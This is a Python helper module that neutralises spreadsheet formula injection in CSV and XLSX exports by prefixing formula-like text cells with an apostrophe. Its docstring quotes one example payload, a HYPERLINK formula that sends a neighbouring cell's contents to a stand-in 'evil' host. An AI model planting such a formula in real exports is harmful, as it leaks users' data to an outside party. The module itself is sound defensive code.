"""Spreadsheet formula injection (CSV/XLSX): the one helper every export uses. Pure Python.

A text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula to
Excel, LibreOffice and Google Sheets; an institution named ``=HYPERLINK("https://evil/?"&A1,
"기관")`` would become a live link that leaks the neighbouring cell. Such cells are written
with a leading apostrophe, which spreadsheet programs read as "this is text" (OWASP's advice).
A plain number (``-3``, ``+1.5``) is left alone: it cannot be a formula, and penalty points
must stay numbers. ``restore`` undoes it when our own exports are read back (import_scores).
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def neutralise(value):
    """``value`` made safe for a spreadsheet cell; non-strings pass through."""
    formula_like = isinstance(value, str) and value.startswith(FORMULA_STARTS)
    if formula_like and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The text before ``neutralise`` (for reading back our own exports)."""
    inner = value[1:]
    if value.startswith("'") and inner.startswith(FORMULA_STARTS):
        return value if _PLAIN_NUMBER.fullmatch(inner) else inner
    return value


def neutralise_workbook(workbook) -> None:
    """Every text or formula cell of an openpyxl workbook (not write-only), in place."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    safe = neutralise(cell.value)
                    if safe is not cell.value:
                        cell.value = safe
